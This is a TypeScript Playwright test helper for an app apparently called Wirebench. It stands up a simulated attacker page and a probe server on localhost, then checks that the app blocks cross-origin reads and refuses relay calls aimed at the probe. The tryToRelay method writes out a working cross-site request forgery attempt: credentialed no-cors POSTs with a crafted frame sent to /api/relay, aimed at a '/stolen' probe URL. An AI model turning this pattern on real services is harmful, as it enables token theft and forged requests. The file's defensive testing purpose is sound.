import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

/**
 * An attacker's page on another localhost port, and a probe server that counts hits: the
 * attacker page tries to read the Wirebench page (to find a token) and to make the relay
 * call the probe. Nothing it does may reach either.
 */
export class SessionProbe {
  hits = 0;
  private readonly servers: http.Server[] = [];
  attackerOrigin = '';
  probeUrl = '';

  async start(): Promise<void> {
    const attacker = http.createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end('<!doctype html><title>another app on this machine</title>');
    });
    const probe = http.createServer((_req, res) => {
      this.hits++;
      res.end('hit');
    });
    this.servers.push(attacker, probe);
    const listen = (s: http.Server) => new Promise<number>((resolve) => s.listen(0, '127.0.0.1', () => resolve((s.address() as AddressInfo).port)));
    this.attackerOrigin = `http://127.0.0.1:${await listen(attacker)}`;
    this.probeUrl = `http://127.0.0.1:${await listen(probe)}/stolen`;
  }

  async stop(): Promise<void> {
    for (const s of this.servers) {
      s.closeAllConnections();
      await new Promise((r) => s.close(r));
    }
  }

  /** From the attacker page: what reading `target` gave (text, or the error's name). */
  async tryToRead(page: Page, target: string): Promise<string> {
    return page.evaluate(async (url) => {
      try {
        const res = await fetch(url, { credentials: 'include' });
        return `read:${await res.text()}`;
      } catch (error) {
        return `refused:${(error as Error).name}`;
      }
    }, target);
  }

  /** From the attacker page: a blind (no-cors) relay call aimed at the probe, with the browser's cookies. */
  async tryToRelay(page: Page, wirebench: string): Promise<void> {
    await page.evaluate(
      async ({ wirebench, probe }) => {
        const meta = new TextEncoder().encode(JSON.stringify({ method: 'GET', url: probe, headers: [] }));
        const body = new Uint8Array(4 + meta.length);
        new DataView(body.buffer).setUint32(0, meta.length);
        body.set(meta, 4);
        await fetch(`${wirebench}/api/relay`, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => undefined);
        await fetch(`${wirebench}/api/workspace`, { mode: 'no-cors', credentials: 'include' }).catch(() => undefined);
        const img = new Image();
        img.src = `${wirebench}/api/relay/progress/x`;
      },
      { wirebench, probe: this.probeUrl },
    );
  }
}
